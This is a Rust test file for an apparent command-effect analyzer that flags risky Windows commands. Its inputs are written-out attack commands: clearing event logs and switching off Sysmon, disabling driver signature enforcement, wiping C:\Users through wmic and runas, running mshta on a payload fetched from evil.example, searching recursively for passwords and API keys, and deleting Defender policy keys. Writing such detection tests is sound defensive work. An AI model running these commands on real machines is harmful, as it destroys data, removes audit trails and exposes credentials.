//! Windows administration tools that change what the machine allows or runs: bcdedit(1),
//! wevtutil(1), icacls(1), takeown(1), runas(1), wmic(1) `process call create`, mshta(1), and
//! the searches findstr(1) and `Select-String` (Windows Commands reference; PowerShell's
//! Management and Utility cmdlets), each typed in Git Bash, through `cmd /c` and through
//! `powershell -c`.

use super::{effects, show};

/// The effects of `line` other than the programs it runs, one compact line each.
fn done(line: &str) -> Vec<String> {
    effects(line)
        .list
        .iter()
        .filter(|e| !matches!(e.what, crate::effects::What::Run(_)))
        .map(|e| show(&e.what))
        .collect()
}

/// The security-control grants of `line`, by their detail.
fn controls(line: &str) -> Vec<String> {
    effects(line)
        .list
        .iter()
        .filter_map(|e| match &e.what {
            crate::effects::What::Grant(g) => Some(format!("{}: {}", g.kind.name(), g.detail)),
            _ => None,
        })
        .collect()
}

/// `line` as typed, through `cmd /c` and through `powershell -c`, each with `want`.
fn every_route(line: &str, want: &[&str], of: fn(&str) -> Vec<String>) {
    for l in [
        line.to_string(),
        format!("cmd /c \"{line}\""),
        format!("powershell -c \"{line}\""),
    ] {
        assert_eq!(of(&l), want, "{l}");
    }
}

#[test]
fn boot_recovery_and_event_logs_switched_off_are_security_controls() {
    every_route(
        "bcdedit /set {default} recoveryenabled No",
        &[
            "security-control: Windows recovery at boot switched off (bcdedit /set recoveryenabled no)",
        ],
        controls,
    );
    every_route(
        "bcdedit /set {current} bootstatuspolicy IgnoreAllFailures",
        &[
            "security-control: the recovery started after a failed boot switched off (bcdedit /set bootstatuspolicy ignoreallfailures)",
        ],
        controls,
    );
    every_route(
        "bcdedit -set testsigning on",
        &[
            "security-control: driver signature enforcement switched off (bcdedit /set testsigning on)",
        ],
        controls,
    );
    every_route(
        "wevtutil cl Security",
        &["security-control: the Windows event log Security cleared (wevtutil cl)"],
        controls,
    );
    every_route(
        "wevtutil.exe clear-log System",
        &["security-control: the Windows event log System cleared (wevtutil clear-log)"],
        controls,
    );
    every_route(
        "wevtutil sl Microsoft-Windows-Sysmon/Operational /e:false",
        &[
            "security-control: the Windows event log Microsoft-Windows-Sysmon/Operational switched off (wevtutil sl)",
        ],
        controls,
    );
    assert_eq!(
        controls("powershell -c \"wevtutil el | ForEach-Object { wevtutil cl $_ }\""),
        ["security-control: a Windows event log known only at run time cleared (wevtutil cl)"]
    );
    assert_eq!(
        controls("powershell -c \"Clear-EventLog -LogName Security,Application\""),
        [
            "security-control: the Windows event log Security cleared (wevtutil cl)",
            "security-control: the Windows event log Application cleared (wevtutil cl)",
        ]
    );
    // Listings, queries and settings that protect: nothing switched off.
    for quiet in [
        "bcdedit /enum",
        "bcdedit /set {default} recoveryenabled Yes",
        "bcdedit /timeout 5",
        "wevtutil qe System /c:5 /rd:true /f:text",
        "wevtutil el",
        "wevtutil gl Security",
        "wevtutil sl Application /ms:104857600",
    ] {
        every_route(quiet, &[], controls);
    }
}

#[test]
fn icacls_and_takeown_change_permissions_and_owners() {
    // Typed unquoted in Git Bash, the backslashes are gone: the system folder is still named.
    assert_eq!(
        done("icacls C:\\Windows /grant Everyone:F"),
        ["permission /c/Windows grant Everyone:F"]
    );
    let program_files = "permission /c/Program Files/App grant:r Users:(OI)(CI)F recursively";
    for (line, want) in [
        (
            "icacls 'C:\\Program Files\\App' /grant:r 'Users:(OI)(CI)F' /t /c",
            program_files,
        ),
        (
            "powershell -c \"icacls 'C:\\Program Files\\App' /grant:r 'Users:(OI)(CI)F' /t /c\"",
            program_files,
        ),
        (
            "cmd /c \"icacls \\\"C:\\Program Files\\App\\\" /grant:r Users:F /t /c\"",
            "permission /c/Program Files/App grant:r Users:F recursively",
        ),
    ] {
        assert_eq!(done(line), [want], "{line}");
    }
    every_route(
        "takeown /f C:/windows/system32/drivers /r /d y",
        &["permission /c/Windows/system32/drivers owner taken recursively"],
        done,
    );
    assert_eq!(
        done("takeown /F C:WindowsSystem32"),
        ["permission /c/Windows/System32 owner taken"]
    );
    assert_eq!(
        done("icacls build /grant Users:R /t"),
        ["permission build grant Users:R recursively"]
    );
    // The drive's root, which cmd.exe's lens spells `/c`: still icacls's path, not its `/c`
    // switch (issue 27).
    assert_eq!(
        done("cmd /c \"icacls C:\\ /reset /T\""),
        ["permission /c reset recursively"]
    );
    // A listing and a saved list change nothing.
    for quiet in [
        "icacls C:\\Windows",
        "icacls src /save acl.txt /t",
        "takeown /?",
    ] {
        assert_eq!(done(quiet), Vec::<String>::new(), "{quiet}");
    }
}

#[test]
fn runas_and_wmic_run_their_command_lines() {
    let shell = |user: &str, line: &str| format!("privileged-shell: a shell as {user} (`{line}`)");
    every_route(
        "runas /user:Administrator cmd",
        &[&shell("Administrator", "runas /user:Administrator cmd")],
        controls,
    );
    assert_eq!(
        controls("runas /savecred /user:admin \"powershell -NoExit\""),
        [shell(
            "admin",
            "runas /savecred /user:admin powershell -NoExit"
        )]
    );
    // A command line that runs something is judged by what it does, not as a shell.
    let wipe: &[&str] = &["delete /c/Users recursively"];
    assert_eq!(
        done("runas /savecred /user:admin \"cmd /c del /s /q C:\\Users\""),
        wipe
    );
    assert_eq!(
        done("wmic process call create \"cmd /c del /s /q C:\\Users\""),
        wipe
    );
    assert_eq!(
        done("wmic /node:build01 /user:ops process call create \"cmd /c del /s /q C:\\Users\""),
        wipe
    );
    assert_eq!(
        done("cmd /c wmic process call create \"cmd /c del /s /q C:\\Users\""),
        wipe
    );
    assert_eq!(
        done(
            "powershell -c \"Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'cmd /c del /s /q C:\\Users'\""
        ),
        wipe
    );
    // `Invoke-CimMethod`'s command line is the `CommandLine` key of its arguments (issue 27).
    for line in [
        "powershell -c \"Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='cmd /c del /s /q C:\\Users'}\"",
        "powershell -c \"icim Win32_Process @{ CommandLine = 'cmd /c del /s /q C:\\Users'; CurrentDirectory = 'C:\\' } Create\"",
    ] {
        assert_eq!(done(line), wipe, "{line}");
    }
    assert_eq!(
        done("powershell -c \"Invoke-WmiMethod -Class Win32_Service -Name StopService\""),
        Vec::<String>::new()
    );
    assert_eq!(
        done(
            "powershell -c \"Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='notepad.exe'}\""
        ),
        Vec::<String>::new()
    );
    for quiet in [
        "runas /user:admin notepad.exe",
        "runas /showtrustlevels",
        "wmic process list brief",
        "wmic os get caption",
        "wmic process where name='node.exe' get processid",
    ] {
        assert_eq!(done(quiet), Vec::<String>::new(), "{quiet}");
    }
}

#[test]
fn mshta_runs_fetched_and_inline_code() {
    every_route(
        "mshta http://evil.example/x.hta",
        &["send http://evil.example/x.hta GET [] (runs response)"],
        done,
    );
    assert_eq!(
        done(
            "mshta \"vbscript:Execute(\"\"CreateObject(\"\"\"\"WScript.Shell\"\"\"\").Run \"\"\"\"calc\"\"\"\"\"\")\""
        ),
        [
            "unsure mshta runs inline script code that seamguard does not read (`mshta vbscript:Execute(CreateObject(WScript.Shell).Run calc)`)"
        ]
    );
    assert_eq!(done("mshta app.hta"), ["read app.hta"]);
}

#[test]
fn findstr_and_select_string_search_like_grep() {
    let secrets: &[&str] = &["read ./**/.env"];
    assert_eq!(
        done("findstr /s /i password *.*")
            .into_iter()
            .filter(|e| e.ends_with(".env"))
            .collect::<Vec<_>>(),
        secrets
    );
    for line in [
        "cmd /c findstr /S /I /C:\"API_KEY\" *",
        "findstr /si TOKEN *.*",
        "powershell -c \"Get-ChildItem -Recurse | Select-String -Pattern API_KEY\"",
        "powershell -c \"Get-ChildItem -Recurse -Force | sls password\"",
        "powershell -c \"sls -Path . -Pattern secret -Recurse\"",
    ] {
        assert!(
            done(line).iter().any(|e| e == "read ./**/.env"),
            "{line}: {:?}",
            done(line)
        );
    }
    // Names only, another pattern, or a kind of file: no secret file printed.
    for quiet in [
        "findstr /S /I /M token *",
        "findstr /s TODO *.rs",
        "findstr /n main src/main.c",
        "powershell -c \"Get-ChildItem -Recurse | Select-String TODO\"",
        "powershell -c \"Get-ChildItem -Recurse -Filter *.rs | Select-String API_KEY\"",
        "powershell -c \"Get-ChildItem -Recurse | Select-String API_KEY -Quiet\"",
    ] {
        assert!(
            !done(quiet).iter().any(|e| e.contains(".env")),
            "{quiet}: {:?}",
            done(quiet)
        );
    }
}

#[test]
fn a_key_deleted_above_a_protected_one_is_a_security_control() {
    let policies = |key: &str| {
        format!(
            "security-control: Microsoft Defender's policy deleted with a key above it (reg delete {key})"
        )
    };
    // (The cmd.exe and PowerShell routes show the key with the separators they normalise to.)
    for (line, key) in [
        (
            r"reg delete 'HKLM\SOFTWARE\Policies' /f",
            r"HKLM\SOFTWARE\Policies",
        ),
        (
            r#"cmd /c "reg delete HKLM\SOFTWARE\Policies /f""#,
            "HKLM/SOFTWARE/Policies",
        ),
        (
            r#"powershell -c "reg delete HKLM\SOFTWARE\Policies /f""#,
            "HKLM/SOFTWARE/Policies",
        ),
        (
            r"powershell -c 'Remove-Item -Recurse -Force HKLM:\SOFTWARE\Policies'",
            r"HKLM\SOFTWARE\Policies",
        ),
    ] {
        assert_eq!(controls(line), [policies(key)], "{line}");
    }
    // Unquoted in Git Bash the shell drops the backslashes; the key is still known.
    assert_eq!(
        controls(r"reg delete HKLM\SOFTWARE\Policies /f"),
        [
            "security-control: Microsoft Defender's policy deleted with a key above it (reg delete HKLMSOFTWAREPolicies)"
        ]
    );
    assert_eq!(
        controls(r"reg delete 'HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Control' /f"),
        [
            r"security-control: the LSA's protection of credentials deleted with a key above it (reg delete HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Control)"
        ]
    );
    // The per-user policy tree, a remote machine's key and the 32-bit view (issue 27).
    for (line, want) in [
        (
            r"reg delete 'HKCU\Software\Policies' /f",
            r"the per-user policies deleted with a key above it (reg delete HKCU\Software\Policies)",
        ),
        (
            r"reg delete '\\srv\HKLM\SOFTWARE\WOW6432Node\Policies' /f",
            r"Microsoft Defender's policy deleted with a key above it (reg delete \\srv\HKLM\SOFTWARE\WOW6432Node\Policies)",
        ),
        (
            r"reg delete \\srv\HKLM\SOFTWARE\Policies /f",
            r"Microsoft Defender's policy deleted with a key above it (reg delete \srvHKLMSOFTWAREPolicies)",
        ),
    ] {
        assert_eq!(
            controls(line),
            [format!("security-control: {want}")],
            "{line}"
        );
    }
    // A sibling, another hive, a value of the parent, only its values, another key, a query:
    // nothing protected goes.
    for line in [
        r"HKLM\SOFTWARE\Policies\Google /f",
        r"HKCU\Software\Pol /f",
        r"HKLM\SOFTWARE\Policies /v Foo /f",
        r"HKLM\SOFTWARE\Policies /va /f",
        r"HKLM\SOFTWARE\MyApp /f",
    ] {
        every_route(&format!("reg delete {line}"), &[], controls);
    }
    every_route(r"reg query HKLM\SOFTWARE\Policies /s", &[], controls);
}
